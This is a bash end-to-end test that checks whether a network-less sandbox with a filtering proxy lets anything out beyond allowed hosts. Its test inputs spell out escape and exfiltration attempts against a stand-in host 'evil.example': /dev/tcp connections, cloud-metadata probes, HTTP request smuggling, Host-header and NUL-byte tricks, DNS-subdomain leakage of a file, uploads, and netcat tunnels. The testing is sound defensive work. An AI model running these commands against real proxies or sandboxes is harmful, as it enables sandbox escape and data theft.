#!/usr/bin/env bash
# What gets out of a sandbox without a network: requests to the hosts that are allowed, and nothing else. A list of ways
# out, tried through our own tools; what really left is in the record of an internet of our own.
# shellcheck disable=SC2016
# shellcheck source=tests/tmux-mcp/e2e/lib.sh
source "$(dirname "$0")/lib.sh" || exit

public=93.184.215.14
record=$work/internet/record
mkdir -m 777 "$work/internet"
cp "$(dirname "$0")/internet.py" "$work/internet"
(
	cd "$work/internet"
	openssl req -x509 -newkey rsa:2048 -nodes -days 2 -keyout key.pem -out ca.crt -subj /CN=test \
		-addext "subjectAltName=DNS:*.example.com,DNS:*.example.org,DNS:*.example.net,DNS:evil.example" 2>/dev/null
	cat key.pem ca.crt >server.pem
	echo "nameserver 127.0.0.1" >resolv.conf
	chmod 644 ./*
)
((EUID)) || chown -R 1000:1000 "$work/internet"
cp "$work/internet/ca.crt" "$ws"

# Without the flag for a network, which the two containers of the internet have another one for.
read -r -d '' -a flags <<<"$TMUX_DEBUG_SANDBOX_PODMAN_ARGS" || true
for i in "${!flags[@]}"; do
	[[ ${flags[i]} != --network=none ]] || unset "flags[i]"
done

internet=internet-$$
TMUX_DEBUG_SANDBOX_PODMAN_ARGS="${flags[*]}" "$SANDBOX_PYTHON" --podman-arg=--network=none --podman-arg=--user=0:0 \
	--podman-arg=--cap-add=NET_ADMIN --podman-arg=--cap-add=NET_BIND_SERVICE --podman-arg=--name=$internet \
	--podman-arg="--volume=$work/internet/resolv.conf:/etc/resolv.conf:ro" \
	"$work/internet" python3 internet.py record server.pem </dev/null >"$work/internet.log" 2>&1 &
trap 'at_end; rm -rf "$work"' EXIT
# Again while it is there: podman gives up when a container that depends on it is removed meanwhile.
at_end() {
	local tries
	for ((tries = 0; tries < 40; tries++)); do
		podman rm --force --depend --time=0 "$internet" >/dev/null 2>&1 || true
		podman container exists "$internet" || return 0
		sleep 0.25
	done
}
for ((tries = 0; tries < 400; tries++)); do
	[[ ! -e $record ]] || break
	sleep 0.05
done
[[ -e $record ]] || fail "the internet does not start: $(<"$work/internet.log")"

export TMUX_DEBUG_SANDBOX_PROXY_PODMAN_ARGS="${flags[*]} --network=container:$internet --volume=$work/internet/resolv.conf:/etc/resolv.conf:ro --volume=$work/internet/ca.crt:/etc/ssl/certs/ca-certificates.crt:ro"
# A namespace of users has its own of the network.
((!EUID)) || TMUX_DEBUG_SANDBOX_PROXY_PODMAN_ARGS+=" --userns=container:$internet"
export XDG_STATE_HOME=$work/state
export KEYED_API_KEY=the-real-key PORTED_API_KEY=the-other-key UNCERTIFIED_API_KEY=a-third-key
sandbox=$SANDBOX_CLOSED

# What must fail before anything starts.
in_sandbox() { "$sandbox" "$@"; }
refused "This sandbox has no network of its own, but podman is given --network=host." --podman-arg=--network=host "$ws" true
KEYED_API_KEY="" refused "KEYED_API_KEY is not set" "$ws" true
WRAPIX_NETWORK=closed refused "WRAPIX_NETWORK is 'closed'. Set it to open or limit." "$ws" true
KEYED_API_KEY="a key" refused "KEYED_API_KEY is empty, or contains characters that no key has." "$ws" true
contains "$(<"$work/errors")" "The proxy does not start. Its output is above."
XDG_STATE_HOME=$ws/state refused "which is in the project" "$ws" true

# What listens on the host, where nothing of a sandbox may arrive.
exec 3< <(python3 -c '
import socket, sys, time
tcp = socket.create_server(("127.0.0.1", 0))
abstract = socket.socket(socket.AF_UNIX)
abstract.bind("\0" + sys.argv[1])
abstract.listen()
print(tcp.getsockname()[1], flush=True)
time.sleep(600)' "abstract-$$")
listener=$!
read -r port <&3
trap 'kill "$listener"; stop_server; at_end; rm -rf "$work"' EXIT

start_server_in "$sandbox" "$ws" tmux-debug-mcp
proxy=http://127.0.0.1:3128
get="curl -sS -m 20 --cacert /workspace/ca.crt"

# What is allowed.
gives "an allowed host" "$get https://api.example.com/v1" "GET 443 api.example.com /v1"
gives "an allowed host, whatever the case of its letters" "$get https://API.Example.COM/v1" "GET 443 API.Example.COM /v1"
gives "a host below an allowed one" "$get https://a.example.org/" "GET 443 a.example.org /"
gives "a host with IPv6 only" "$get https://six.example.org/" "GET 443 six.example.org /"
gives "an allowed host without TLS" "$get http://plain.example.net/x" "GET 80 plain.example.net /x"
gives "an allowed host, from Python" \
	"SSL_CERT_FILE=ca.crt python3 -c 'import urllib.request as r; print(r.urlopen(\"https://api.example.com/p\").read().decode(), end=\"\")'" \
	"GET 443 api.example.com /p"
gives "an allowed host, from uv" "echo nothing | uv pip compile -q --index-url http://plain.example.net/simple - 2>/dev/null; echo asked" asked
contains "$(<"$record")" "GET 80 plain.example.net /simple/nothing/"
gives "a large upload" "head -c 3000000 /dev/zero | tr '\\0' x | $get --data-binary @- http://plain.example.net/x | wc -c" 3000030
gives "a request with a key" "$get \$KEYED_BASE_URL/v1?a=1" "GET 443 keyed.example.com /v1?a=1"
gives "a request with a key, to another port" "$get \$PORTED_BASE_URL/v1" "GET 8443 ported.example.com:8443 /v1"
[[ $(<"$record") == *"ported.example.com:8443 /v1 key=Bearer the-other-key"* ]] || fail "the other key was not added: $(<"$record")"
[[ $(<"$record") == *"keyed.example.com /v1?a=1 key=the-real-key"* ]] || fail "the key was not added: $(<"$record")"

# The network itself.
denies "a connection" ": <>/dev/tcp/$public/443" "Network is unreachable"
denies "a connection with IPv6" ": <>/dev/tcp/2606:2800:21f:cb07::1/443" "Network is unreachable" "Cannot assign requested address"
denies "a datagram" "echo x >/dev/udp/8.8.8.8/53" "Network is unreachable"
denies "a datagram to an allowed host" "echo x >/dev/udp/$public/443" "Network is unreachable"
denies "the metadata of a cloud" ": <>/dev/tcp/169.254.169.254/80" "Network is unreachable"
denies "the metadata of a cloud, with IPv6" ": <>/dev/tcp/fd00:ec2::254/80" "Network is unreachable" "Cannot assign requested address"
denies "the host's network" ": <>/dev/tcp/10.0.2.2/22" "Network is unreachable"
denies "the host's loopback" ": <>/dev/tcp/127.0.0.1/$port" "Connection refused"
denies "the host's loopback with IPv6" ": <>/dev/tcp/::1/$port" "Connection refused" "Cannot assign requested address"
denies "a name" "getent hosts api.example.com || { echo none; false; }" none
denies "a name from a server of one's choice" "python3 -c 'import socket; socket.socket(2, 2).sendto(b\"x\", (\"1.1.1.1\", 53))'" "Network is unreachable"
denies "other servers for names" "echo nameserver 1.1.1.1 >/etc/resolv.conf" "Read-only file system" "Permission denied"
denies "a socket for packets" "python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)'" "Operation not permitted"
denies "a raw socket" "python3 -c 'import socket; socket.socket(2, socket.SOCK_RAW, 1)'" "Operation not permitted"
denies "a ping" "python3 -c 'import socket; socket.socket(2, 2, 1).sendto(b\"x\" * 64, (\"$public\", 0))'" "Permission denied" "Network is unreachable"
denies "the host's hypervisor" "python3 -c 'import socket; socket.socket(socket.AF_VSOCK).connect((2, 1024))'" \
	"No such device" "not supported" "not permitted" "not available" "reset by peer" "timed out" "Network is unreachable"
denies "an abstract socket of the host" "python3 -c 'import socket; socket.socket(1).connect(\"\\0abstract-$$\")'" "Connection refused"
for path in /run/podman/podman.sock /run/user/1000/podman/podman.sock /var/run/docker.sock /run/dbus/system_bus_socket /run/systemd/private; do
	denies "a socket of the host" "python3 -c 'import socket; socket.socket(1).connect(\"$path\")'" "No such file"
done
denies "another interface" "ip link add x type dummy" "Operation not permitted" "not supported"
denies "another address" "ip address add $public/32 dev lo" "Operation not permitted"
denies "a network of one's own" "unshare --map-root-user --net curl -sS -m 5 http://$public/" "Network is unreachable" "Failed to connect" "Couldn't connect" "Could not connect"
denies "the network of the first process" "nsenter --net=/proc/1/ns/net true" "Operation not permitted" "Permission denied"

# The proxy, asked for what it does not let pass.
connect() { denies "$1" "$get --noproxy '' -x $proxy ${3-} -p http://$2/" "response 4" "Received HTTP code 4"; }
connect "another host" evil.example:443
connect "another port of an allowed host" api.example.com:8443
connect "an allowed host, on the port of another" api.example.com:80
connect "another port, where all hosts below are allowed" a.example.org:8443
connect "an allowed host's address" "$public:443"
connect "an allowed host's address with IPv6" "[2606:2800:21f:cb07::1]:443"
connect "a host above an allowed one" example.org:443
connect "a host whose name ends like an allowed one" notexample.org:443
connect "a host whose name begins like an allowed one" api.example.com.evil.example:443
connect "a host below an allowed one that has none" x.api.example.com:443
connect "an allowed name that another header has" evil.example:443 '--proxy-header "Host: api.example.com:443"'
connect "the proxy's own loopback" localhost:3128
connect "the proxy's own loopback by its address" 127.0.0.1:53
connect "the proxy's own loopback with IPv6" "[::1]:3128"
for name in inside loopback metadata azure shared loopback6 mapped metadata6 nat64 sixtofour both; do
	connect "an allowed name that leads inside: $name" "$name.example.org:443"
done

says='<html>|<!DOCTYPE|This sandbox lets nothing pass to|Invalid|Missing Template'
plain() {
	run "$get --noproxy '' -x $proxy $2 | grep -cE '$says'"
	[[ $TEXT == 1* ]] || { run "$get --noproxy '' -x $proxy $2"; fail "$1: '$2' gave '$TEXT'"; }
	tried=$((tried + 1))
}
plain "another host without TLS" http://evil.example/
plain "another host as the one after an @" http://plain.example.net@evil.example/
plain "another host that a name is added to" 'http://evil.example/?plain.example.net'
plain "another host by a header" '-H "Host: plain.example.net" http://evil.example/'
plain "another port without TLS" http://plain.example.net:8080/
plain "an allowed host's address without TLS" "http://$public/"
plain "an allowed host's address in one number" "http://1572394766/"
plain "a file with FTP" ftp://a.example.org/x
plain "what the proxy says of itself" http://127.0.0.1:3128/squid-internal-mgr/menu
plain "an upload to another host" '-T ca.crt http://evil.example/'
plain "data in the name of a host" "http://\$(base64 -w 40 ca.crt | head -n 1 | tr -dc a-z0-9).evil.example/"

# Bytes as they are: one connection, two requests.
raw() { printf '%s' "exec 4<>/dev/tcp/127.0.0.1/3128; printf '$1' >&4; timeout 3 cat <&4 | grep -c '^[A-Z]* [0-9]* evil'"; }
gives "a second request after an allowed one" \
	"$(raw 'GET http://plain.example.net/ HTTP/1.1\r\nHost: plain.example.net\r\n\r\nGET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n')" 0
gives "a request in the body of another" \
	"$(raw 'POST http://plain.example.net/ HTTP/1.1\r\nHost: plain.example.net\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n')" 0
gives "a name that is taken apart in another way" "$(raw 'CONNECT api.example.com%%00.evil.example:443 HTTP/1.1\r\n\r\n')" 0
gives "two headers for the host" \
	"$(raw 'GET / HTTP/1.1\r\nHost: plain.example.net\r\nHost: evil.example\r\n\r\n')" 0
gives "a request after a refused tunnel" \
	"$(raw 'CONNECT evil.example:443 HTTP/1.1\r\nHost: api.example.com:443\r\n\r\nCONNECT evil.example:443 HTTP/1.1\r\n\r\n')" 0
gives "a line feed in the name" "$(raw 'CONNECT api.example.com:443\nHost:evil.example:443 HTTP/1.1\r\n\r\n')" 0
gives "another host for an allowed address" "$get -H 'Host: evil.example' http://plain.example.net/y" "GET 80 plain.example.net /y"

# An allowed name that leads elsewhere the second time.
run "for i in 1 2 3; do $get https://rebound.example.org/; sleep 1.2; done"
tried=$((tried + 1))

# The key.
gives "the key in the environment" "cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep ^KEYED_API_KEY= | sort -u" KEYED_API_KEY=placeholder
denies "the key in a file" "grep -rs the-rea[l]-key /proc/*/environ /proc/*/cmdline /run /tmp /home /workspace --exclude-dir=task || { echo none; false; }" none
gives "another host for the key" "$get -H 'Host: evil.example' \$KEYED_BASE_URL/h" "GET 443 keyed.example.com /h"
gives "another address for the key" "$get --request-target http://evil.example/u \$KEYED_BASE_URL" "GET 443 keyed.example.com /u"
gives "another host in the path, for the key" "$get --path-as-is \$KEYED_BASE_URL//evil.example/" "GET 443 keyed.example.com /evil.example/"
gives "a host whose certificate is for others, for the key" "$get -o /dev/null -w '%{http_code}\n' \$UNCERTIFIED_BASE_URL/v1" 502
gives "a key of one's own" "$get -H 'x-api-key: mine' \$KEYED_BASE_URL/own" "GET 443 keyed.example.com /own"
connect "the host of the key, without it" keyed.example.com:443
denies "the sockets of the proxy" "touch /run/proxy/x /run/proxy/keys/x" "Read-only file system"
denies "the sockets of the proxy, removed" "rm -f /run/proxy/hosts/hosts" "Read-only file system"
denies "the sockets of the proxy, replaced" "mount --bind /tmp /run/proxy" "must be superuser" "ermission denied"

# git, with what pushes elsewhere.
run "printf '#!/bin/sh\nexec nc -X connect -x 127.0.0.1:3128 \$1 \$2\n' >/tmp/through; chmod +x /tmp/through"
run "cd /tmp && git init -q g && cd g && git config user.email a@b && git config user.name a && git commit -qm x --allow-empty"
denies "a push with git's protocol" "timeout 20 git -C /tmp/g push git://$public/x.git HEAD:x" "unable to connect"
denies "a push with git's protocol, by the proxy" \
	"GIT_PROXY_COMMAND=/tmp/through timeout 20 git -C /tmp/g push git://evil.example/x.git HEAD:x" "Could not read from remote"
connect "a push to another host" "evil.example:9418"
denies "a tunnel of netcat's" "nc -X connect -x 127.0.0.1:3128 evil.example 22 </dev/null" "Proxy error"

# Without what passes connections on, there is nothing.
run "pkill socat; sleep 0.2; $get https://api.example.com/"
[[ $STATUS != *"code 0"* ]] || fail "without the forwarder there was a way: $TEXT"
stop_server

# What left, whatever the commands said of it.
while read -r kind first rest; do
	case $kind in
	name) [[ $first =~ ^(api|keyed|ported|not\.certified)\.example\.com$|^plain\.example\.net$|^[a-z0-9]+\.example\.org$ ]] || fail "asked for the name $first" ;;
	request)
		[[ $first == "$public" || $first == 2606:2800:21f:cb07::1 ]] || fail "a request to $first: $rest"
		[[ $rest =~ ^[A-Z]+\ (443\ ([Aa][Pp][Ii]|keyed)\.[Ee]xample\.(com|COM)|443\ [a-z]+\.example\.org|8443\ ported\.example\.com:8443|80\ plain\.example\.net)\ / ]] || fail "a request: $rest"
		[[ $rest != *"key=mine"* ]] || fail "another key: $rest"
		;;
	esac
done <"$record"

# The log of connections, outside.
log=$(cat "$XDG_STATE_HOME"/tmux-debug-sandbox/*.log)
contains "$log" "refused CONNECT evil.example:443 (not-allowed)"
contains "$log" "refused CONNECT metadata.example.org:443 (not-on-the-internet)"
contains "$log" "passed CONNECT api.example.com:443 (allowed)"
contains "$log" "passed GET https://keyed.example.com/v1 (with its key)"
[[ $log != *the-real-key* ]] || fail "the key is in the log"
[[ $log =~ "connections refused: "[1-9] ]] || fail "the end doesn't tell how many connections were refused"

# wrapix's list of hosts, for whoever asks for it at the start.
reached() { WRAPIX_NETWORK=$1 in_sandbox "$ws" bash -c "$get --fail https://limited.example.com/ http://limited.example.com/ https://api.example.com/" 2>"$work/errors" || true; }
equal "$(reached limit)" $'GET 443 limited.example.com /\nGET 80 limited.example.com /\nGET 443 api.example.com /'
equal "$(reached open)" "GET 443 api.example.com /"
WRAPIX_NETWORK=limit "$SANDBOX_BASE" "$ws" ip -o link >"$work/links" 2>/dev/null
equal "$(cut -d: -f2 "$work/links")" " lo"

# Nothing is left.
at_end
until_no_container "the closed sandboxes"
until_nothing_is_left

echo "$tried ways out tried" >&2
pass
